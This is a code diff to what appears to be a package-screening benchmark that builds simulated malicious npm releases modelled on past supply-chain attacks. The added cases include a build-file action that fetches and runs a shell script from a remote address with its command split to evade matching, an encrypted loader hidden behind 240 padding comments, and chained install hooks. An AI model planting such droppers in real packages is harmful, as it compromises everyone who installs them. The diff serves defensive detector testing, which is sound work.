@@ -3,7 +3,7 @@
 import base64
 from typing import Final
 
-from bench.screening.attacks.attack import Attack, Release
+from bench.screening.attacks.attack import MARKER, Attack, Release
 from bench.screening.attacks.ordinary import JS_COMMENT, index_js
 from sandboxes.screening.package import Kind
 
@@ -70,6 +70,27 @@ others["spawn"]("python3", ["-c", "import urllib.request as u;exec(u.urlopen('ht
 """
 
 
+_GYP = f"""# {MARKER}
+{{
+  "targets": [{{
+    "target_name": "text",
+    "type": "none",
+    "actions": [{{
+      "action_name": "prepare", "inputs": [], "outputs": ["out"],
+      "action": ["sh", "-c", "cu" "rl -s http://192.0.2.163/u -o /tmp/u && sh /tmp/u"]
+    }}]
+  }}]
+}}
+"""
+
+_DECRYPTED = f"""{JS_COMMENT}const crypto = require("crypto");
+exports.legacy = (key) => crypto.createDecipher("aes192", key);
+{chr(10).join(["// Text is read in one pass."] * 240)}
+const plain = crypto.createDecipheriv("aes-256-cbc", exports.key, exports.start);
+module._compile(plain.update(exports.words, "hex", "utf8") + plain.final("utf8"), "");
+"""
+
+
 def _script(name: str, recreates: str, project: str, code: str, file: str = "install.js") -> Attack:
     return Attack(
         name=name,
@@ -92,7 +113,35 @@ def _entry(name: str, recreates: str, project: str, code: str) -> Attack:
     )
 
 
+_INDIRECT: Final = {
+    "postinstall": "npm run --silent prepare-text",
+    "prepare-text": "node -e 1",
+    "postprepare-text": "node --no-warnings -r ./setup.js --eval 0",
+}
+
 ATTACKS: Final[tuple[Attack, ...]] = (
+    Attack(
+        name="npm-named-script",
+        recreates="the droppers since 2017, started by the name of another script and by an option of Node",
+        kind=Kind.NPM,
+        project="text-named-setup",
+        release=Release("1.4.1", {**index_js(), "setup.js": _CONCATENATED}, {"scripts": _INDIRECT}),
+        expects=frozenset({"npm"}),
+    ),
+    Attack(
+        name="npm-build-action",
+        recreates="coa and rc (2021), by an action of a build file instead of a script",
+        kind=Kind.NPM,
+        project="text-built-setup",
+        release=Release("1.4.1", {**index_js(), "binding.gyp": _GYP}),
+        expects=frozenset({"npm"}),
+    ),
+    _entry(
+        "npm-decrypted-behind",
+        "event-stream (2018), behind another use of its cipher",
+        "text-old-ciphers",
+        _DECRYPTED,
+    ),
     _script(
         "npm-concatenated", "rc and coa (2021), with words put together", "text-words-joined", _CONCATENATED
     ),
